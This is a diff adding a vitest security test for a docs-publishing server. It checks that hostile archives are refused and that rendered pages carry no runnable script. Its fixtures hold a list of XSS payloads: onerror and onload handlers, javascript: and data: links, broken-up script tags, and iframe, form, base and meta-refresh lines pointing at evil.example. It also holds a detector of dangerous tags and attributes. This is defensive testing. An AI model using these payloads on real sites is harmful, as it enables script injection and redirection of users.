@@ -1,0 +1,231 @@
+// Everything hostile that can be sent, to a process of its own: each archive of the table is refused in its
+// own words, the last good deploy stays, nothing is left over, and memory has a bound. And scripts in
+// whatever is rendered: none of them arrives.
+import { readFileSync } from 'node:fs'
+import { Parser } from 'htmlparser2'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { archiveForm } from '../../server/publishing/archives/archive-form.ts'
+import { planLimits } from '../../server/publishing/deploys/plan-limits.ts'
+import { createTestDatabase, engines, type TestDatabase } from '../database.ts'
+import { type ServedProcess, serveProcess } from '../served-process.ts'
+import { archiveOf } from './archive-of.ts'
+import { hostileArchives } from './hostile-archives.ts'
+import { type Files, type People, type Person, peopleAt } from './publishing-in-test.ts'
+import { noOrphans, openPublishingRows } from './publishing-rows.ts'
+
+const table = hostileArchives(planLimits.free)
+/** Of the process: before the first archive it has some 150. */
+const mostMegabytes = 450
+
+describe.each(engines)('hostile archives over HTTP on %s', (engine) => {
+  let place: TestDatabase
+  let served: ServedProcess
+  let people: People
+  let member: Person
+
+  beforeAll(async () => {
+    place = await createTestDatabase(engine)
+    served = await serveProcess(place)
+    people = await peopleAt(served.port, new URL(served.setUpLink ?? '').hash.slice(1))
+    member = await people.member()
+    await member.create('docs')
+    await member.deploy('docs', archiveOf({ 'index.html': 'good' }))
+  })
+  afterAll(async () => {
+    expect(await served.end()).toBe(0)
+    await place.release()
+  })
+
+  it.each(table)('$name', async ({ bytes, form, refusal }) => {
+    const type = form === 'zip' ? 'application/zip' : 'application/gzip'
+    const body = bytes()
+    const upload = { method: 'POST', body, type }
+    const answer = await member.ask('/projects/docs/archives', upload)
+    expect(answer).toMatchObject({ status: 400, json: { code: 'invalid_archive' } })
+    const { message } = answer.json as { message: string }
+    // The server goes by the first bytes, not by what somebody says it is.
+    expect(message).toMatch(archiveForm(body) === form ? refusal : /neither a \.zip|no files/)
+    // It is shown to people: nothing in it may hide or break a line.
+    expect(message).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u)
+  })
+
+  it.each([
+    ['nothing', Buffer.alloc(0), 400],
+    ['text', Buffer.from('hello'), 400],
+    ['a page', Buffer.from('<!doctype html>'), 400],
+    ['zeros', Buffer.alloc(100_000), 400],
+    ['more than the plan allows', Buffer.alloc(planLimits.free.bytes + 1, 'PK\x03\x04'), 413],
+  ])('%s', async (_, body, status) => {
+    const upload = { method: 'POST', body, type: 'application/octet-stream' }
+    const answer = await member.ask('/projects/docs/archives', upload)
+    const code = status === 413 ? 'body_too_large' : 'invalid_archive'
+    expect(answer).toMatchObject({ status, json: { code } })
+  })
+
+  it('leave the last good deploy live, no trace, and memory', async () => {
+    expect((await people.visit('docs')).text).toBe('good')
+    const { items } = (await member.ask('/projects/docs/deploys')).json as { items: unknown[] }
+    expect(items).toHaveLength(1)
+    const rows = openPublishingRows(place)
+    expect(await rows.count()).toMatchObject({ deploys: 1, uploads: 0, files: 1 })
+    expect(await rows.orphans()).toEqual(noOrphans)
+    await rows.close()
+    expect(peakMegabytes(served.child.pid)).toBeLessThan(mostMegabytes)
+    expect(served.log()).toBe('')
+  })
+})
+
+function peakMegabytes(pid: number | undefined): number {
+  const status = readFileSync(`/proc/${pid}/status`, 'utf8')
+  return Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1]) / 1024
+}
+
+const attack = '<img src=x onerror=alert(1)><script>alert(1)</script>'
+const quoted = JSON.stringify(`"'></title>${attack}`)
+const paths = JSON.stringify({
+  [`/a${attack}`]: {
+    get: {
+      operationId: `"><script>alert(1)</script>`,
+      summary: attack,
+      description: `${attack} [x](javascript:alert(1))`,
+      tags: [attack],
+      parameters: [{ name: attack, in: 'query', description: attack, schema: { type: attack } }],
+      responses: { 200: { description: attack } },
+    },
+  },
+})
+
+/** A path, and the source that is there. */
+const hostileSources: [string, string][] = [
+  ['script.md', '# A\n\n<script>alert(1)</script>'],
+  ['script-src.md', '<script src="//evil.example/x.js"></script>'],
+  ['broken-script.md', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['handler.md', '<img src=x onerror=alert(1)> <p onmouseover=alert(1)>x</p>'],
+  ['svg.md', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
+  ['math.md', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
+  ['link.md', '[x](javascript:alert(1)) [y](JAVASCRIPT&colon;alert(1))'],
+  ['link-html.md', '<a href="java&#x09;script:alert(1)">x</a>'],
+  ['link-data.md', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
+  ['by-reference.md', '[a]\n\n[a]: javascript:alert(1)'],
+  ['autolink.md', '<javascript:alert(1)>'],
+  ['frame.md', '<iframe src="//evil.example"></iframe><iframe srcdoc="<b>"></iframe>'],
+  ['object.md', '<object data="x"></object><embed src="x">'],
+  ['form.md', '<form action="//evil.example"><input name=a><button>x</button></form>'],
+  ['base.md', '<base href="//evil.example/">'],
+  ['refresh.md', '<meta http-equiv="refresh" content="0;url=//evil.example">'],
+  ['style.md', '<style>*{background:url(//evil.example)}</style>'],
+  ['sheet.md', '<link rel="stylesheet" href="//evil.example/x.css">'],
+  ['template.md', `<template>${attack}</template>`],
+  ['comment.md', `<!--><img src=x onerror=alert(1)>-->`],
+  ['noscript.md', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+  ['textarea.md', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
+  ['heading.md', `# ${attack}\n\n## ${attack}`],
+  ['code.md', `\`\`\`js" onclick="alert(1)\n${attack}\n\`\`\``],
+  ['code-open.md', '```\n</code></pre><script>alert(1)</script>'],
+  ['table.md', `| ${attack} |\n|---|\n| ${attack} |`],
+  ['callout.md', `> [!NOTE] ${attack}\n> x`],
+  ['title.md', `---\ntitle: ${quoted}\ndescription: ${quoted}\n---\n\ntext`],
+  ['alt.md', '![x" onerror="alert(1)](x.png)'],
+  [`name'"><script>alert(1)<`, 'not rendered, and harmless as a file'],
+  [`<img src=x onerror=alert(1)>.md`, '# By its name'],
+  [`"><svg onload=alert(1)>/page.md`, 'text without a title'],
+  [
+    'openapi.json',
+    `{"openapi":"3.1.0","info":{"title":${quoted},"version":${quoted}},"paths":${paths}}`,
+  ],
+]
+
+describe('scripts in what is rendered', () => {
+  let place: TestDatabase
+  let served: ServedProcess
+  let people: People
+
+  beforeAll(async () => {
+    place = await createTestDatabase('sqlite')
+    served = await serveProcess(place)
+    people = await peopleAt(served.port, new URL(served.setUpLink ?? '').hash.slice(1))
+    await people.operator.create('docs', `</title><script>alert(1)</script>`)
+  })
+  afterAll(async () => {
+    await served.end()
+    await place.release()
+  })
+
+  it('are harmless on every page', { timeout: 60_000 }, async () => {
+    const files: Files = { 'index.md': attack, ...Object.fromEntries(hostileSources) }
+    const deploy = await people.operator.deploy('docs', archiveOf(files))
+    expect(deploy.failure).toBeNull()
+    expect(deploy.kind).toBe('rendered')
+    const seen: string[] = []
+    const queue = ['/']
+    for (const path of queue) {
+      const page = await people.visit('docs', path)
+      expect(page.status, path).toBe(200)
+      if (!page.headers['content-type']?.startsWith('text/html')) continue
+      seen.push(path)
+      expect(page.headers['content-security-policy']).toContain("default-src 'self'")
+      const { dangers, links } = partsOf(page.text)
+      expect(dangers, path).toEqual([])
+      for (const link of links) {
+        const target = new URL(link, `http://docs.example${path}`)
+        if (target.host === 'docs.example' && !queue.includes(target.pathname)) {
+          queue.push(target.pathname)
+        }
+      }
+    }
+    // The pages, and those of the API's reference.
+    expect(seen.length).toBeGreaterThan(hostileSources.length)
+  })
+
+  it('would be noticed', () => {
+    for (const html of [
+      attack,
+      '<script src="//evil.example/x.js"></script>',
+      '<a href=" javascript:x">x</a>',
+      '<iframe></iframe>',
+      '<p style="x">x</p>',
+    ]) {
+      expect(partsOf(html).dangers).not.toEqual([])
+    }
+  })
+})
+
+const forbidden = new Set(
+  'iframe frame object embed applet base form input textarea select template noscript math style'.split(
+    ' ',
+  ),
+)
+
+/** What of a page could run or load from elsewhere, and the pages that its navigation and text lead to. */
+function partsOf(html: string): { dangers: string[]; links: string[] } {
+  const dangers: string[] = []
+  const links: string[] = []
+  let inScript = false
+  const parser = new Parser({
+    onopentag(name, attributes) {
+      inScript = name === 'script'
+      const { href, 'http-equiv': pragma, rel = '', src } = attributes
+      if (forbidden.has(name)) dangers.push(name)
+      if (pragma !== undefined) dangers.push(`meta ${pragma}`)
+      if (inScript && !src?.startsWith('/_site/')) dangers.push(`script ${src}`)
+      if (name === 'link' && rel === 'stylesheet' && !href?.startsWith('/_site/')) dangers.push(rel)
+      for (const [key, value] of Object.entries(attributes)) {
+        if (/^(?:on|style$|srcdoc$|formaction$)/.test(key)) dangers.push(`${name} ${key}`)
+        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replaceAll(/[\0-\x20]/g, ''))?.[1]
+        const isAddress = ['href', 'src', 'action', 'poster', 'xlink:href'].includes(key)
+        if (isAddress && scheme && !/^(?:https?|mailto|tel)$/i.test(scheme)) {
+          dangers.push(`${name} ${key}=${value}`)
+        }
+      }
+      if (name === 'a' && href) links.push(href)
+    },
+    ontext(text) {
+      if (inScript && text.trim() !== '') dangers.push(`script: ${text}`)
+    },
+    onclosetag() {
+      inScript = false
+    },
+  })
+  parser.end(html)
+  return { dangers, links }
+}
